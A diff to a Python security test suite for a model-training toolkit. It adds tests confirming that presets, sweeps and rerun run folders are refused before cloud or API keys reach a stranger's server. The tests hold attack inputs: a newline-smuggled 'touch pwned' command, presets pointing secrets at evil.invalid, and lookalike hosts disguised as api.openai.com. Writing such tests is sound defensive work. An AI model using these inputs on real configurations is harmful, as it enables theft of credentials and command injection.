@@ -252,7 +252,7 @@ def _(folder: Path) -> tuple[bool, str]:
 
 @attack("a preset trusts by an interpolation", "refused")
 def _(folder: Path) -> tuple[bool, str]:
-    os.environ["LLMRL_ATTACK"] = "evil"
+    os.environ["LLMRL_ATTACK"] = "evil_module"
     own = options(folder, "# @package _global_\ntrusted_modules: ['${oc.env:LLMRL_ATTACK}']\n")
     return refused(folder, trained(*own, "experiment=nice"), "for whoever types the command")
 
@@ -446,6 +446,165 @@ def _(folder: Path) -> tuple[bool, str]:
 def _(folder: Path) -> tuple[bool, str]:
     call = trained("hardware=slurm_cpu", "hardware.backend.account='x\ntouch pwned #'")
     return refused(folder, call, "")
+
+
+# --- keys ------------------------------------------------------------------------------------------------------------
+
+CLOUD = "AWS_SECRET_ACCESS_KEY"
+HOSTED = "_target_: llmrl.llms.litellm_chat.LiteLLMChat"
+
+
+def sent(folder: Path, call: Callable[[str], Callable[[], Any]], words: str = CLOUD) -> tuple[bool, str]:
+    """Whether a call, which is given the address of a stranger's server, is refused before anything reaches it."""
+    received: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            received.append(f"{self.path} {self.headers}")
+            self.send_error(400)
+
+        def do_POST(self) -> None:
+            self.do_GET()
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    before = dict(os.environ)
+    os.environ[CLOUD] = os.environ["OPENAI_API_KEY"] = "correct-horse-battery"
+    try:
+        code, out = said_by(call(f"http://127.0.0.1:{server.server_port}/v1"))
+    finally:
+        os.environ.clear()
+        os.environ.update(before)
+        server.shutdown()
+        server.server_close()
+    text = " ".join(f"{out} {code}".split())
+    return not received and code not in (0, None) and words in text, f"{len(received)} received; {last(text)}"
+
+
+def serving_model(url: str, variable: str = CLOUD) -> dict[str, Any]:
+    target = "llmrl.llms.openai_compatible.OpenAICompatibleChat"
+    return {"_target_": target, "base_url": url, "model": "m", "api_key_env": variable}
+
+
+def asked_by_preset(folder: Path, content: str, *typed: str) -> Callable[[], Any]:
+    own = options(folder, f"# @package _global_\n{content}\n")
+    game = (
+        "env=escape_room",
+        "principal=llm",
+        "design.steps=1",
+        "design.references=0",
+        f"output_root={folder / 'out'}",
+    )
+    return command("llmrl-train", *own, *game, "+experiment=nice", *typed)
+
+
+PRESETS = {
+    "a preset sends a secret of the cloud to its own server": ("", ()),
+    "a preset, and the address alone is typed": ("", ("llm.base_url={url}",)),
+    "a preset, and the variable alone is typed": ("https", (f"llm.api_key_env={CLOUD}",)),
+    "a preset, and another host is approved": ("", (f"trusted_modules=[{CLOUD}@http://127.0.0.1:1]",)),
+    "a preset, in a sweep": ("", ("seed=0,1", "--multirun")),
+}
+for _name, (_scheme, _more) in PRESETS.items():
+
+    @attack(_name, "refused before anything starts, nothing is sent")
+    def _(folder: Path, scheme: str = _scheme, more: tuple[str, ...] = _more) -> tuple[bool, str]:
+        def call(url: str) -> Callable[[], Any]:
+            url = "https://evil.invalid/v1" if scheme else url
+            content = f"llm: {json.dumps(serving_model(url))}"
+            return asked_by_preset(folder, content, *(word.format(url=url) for word in more))
+
+        held, seen = sent(folder, call)
+        return held and not list((folder / "out").rglob("config.yaml")), seen
+
+
+@attack("a preset has litellm send the key that it finds by itself", "refused, nothing is sent")
+def _(folder: Path) -> tuple[bool, str]:
+    def call(url: str) -> Callable[[], Any]:
+        model = {"model": "gpt-4o", "api_key_env": None, "api_base": url}
+        return asked_by_preset(folder, f"defaults: [{{override /llm: gpt4o}}, _self_]\nllm: {json.dumps(model)}")
+
+    return sent(folder, call, "OPENAI_API_KEY@http://127.0.0.1")
+
+
+@attack("a preset sends one provider's key to another provider", "refused")
+def _(folder: Path) -> tuple[bool, str]:
+    content = "defaults: [{override /llm: gpt4o}, _self_]\nllm: {model: deepseek/deepseek-chat}"
+    return sent(folder, lambda url: asked_by_preset(folder, content), "OPENAI_API_KEY@https://api.deepseek.com")
+
+
+@attack("a preset's sweeper types host and key", "refused")
+def _(folder: Path) -> tuple[bool, str]:
+    def call(url: str) -> Callable[[], Any]:
+        params = {"llm.base_url": url, "llm.api_key_env": CLOUD}
+        content = f"hydra: {{sweeper: {{params: {json.dumps(params)}}}}}"
+        return asked_by_preset(folder, content, "llm=openai_compatible", "llm.model=m", "--multirun")
+
+    return sent(folder, call, "hydra.sweeper.params has llm.base_url")
+
+
+@attack("an address that reads as a provider's and leads elsewhere", "refused")
+def _(folder: Path) -> tuple[bool, str]:
+    from llmrl.config.destinations import with_approvals
+    from llmrl.core.errors import ConfigError
+
+    hosts = (
+        "api.openai.com\\@evil.org",
+        "api.openai.com@evil.org",
+        "api.openai.com.evil.org",
+        "api.openai.com\t.evil.org",
+    )
+    hosts += (
+        "evil.org#api.openai.com",
+        "evil.org?api.openai.com",
+        "api.openai.com:444",
+        "[::1]",
+        "\u0430pi.openai.com",
+    )
+    taken = []
+    for host in hosts:
+        node = serving_model(f"https://{host}/v1", "OPENAI_API_KEY")
+        with contextlib.suppress(ConfigError):
+            with_approvals({"llm": node, "trusted_modules": []})
+            taken.append(host)
+    return not taken, f"{len(hosts)} addresses, taken {taken}"
+
+
+@attack("plain HTTP to another machine, typed", "needs llm.plain_http")
+def _(folder: Path) -> tuple[bool, str]:
+    typed = ("llm=openai_compatible", "llm.model=m", "llm.base_url=http://192.0.2.1/v1", f"llm.api_key_env={CLOUD}")
+    return sent(folder, lambda url: asked_by_preset(folder, "{}", *typed), "llm.plain_http=true")
+
+
+def asking_run(folder: Path, url: str) -> Path:
+    """A stranger's run whose agent asks a model of theirs."""
+    import yaml
+
+    from llmrl.core.option_files import option
+
+    agent = option("agent", "llm_player")
+    shared = yaml.safe_load((finished() / "config.yaml").read_text())
+    llm = {**option("llm", "openai_compatible"), **(shared.get("llm") or {}), **serving_model(url)}
+    run = theirs(folder, {"agent": agent, "llm": llm}, "failed")
+    status = json.loads((run / "status.json").read_text())
+    words = [*PLAIN[:1], "agent=llm_player", "llm=openai_compatible", f"llm.base_url={url}", f"llm.api_key_env={CLOUD}"]
+    (run / "status.json").write_text(json.dumps({**status, "overrides": words}))
+    return run
+
+
+FOLDERS: dict[str, Callable[[Path], tuple[str, ...]]] = {
+    "llmrl-evaluate": lambda run: ("llmrl-evaluate", str(run), "--episodes", "2"),
+    "llmrl-train --again": lambda run: ("llmrl-train", "--again", str(run), f"output_root={run.parents[3] / 'out'}"),
+    "llmrl-sweep retry": lambda run: ("llmrl-sweep", "retry", str(run.parents[2])),
+}
+for _name, _words in FOLDERS.items():
+
+    @attack(f"{_name} of a run folder that sends a secret of the cloud to its own server", "refused, nothing is sent")
+    def _(folder: Path, words: Callable[[Path], tuple[str, ...]] = _words) -> tuple[bool, str]:
+        return sent(folder, lambda url: command(*words(asking_run(folder, url))))
 
 
 # --- terminals -------------------------------------------------------------------------------------------------------
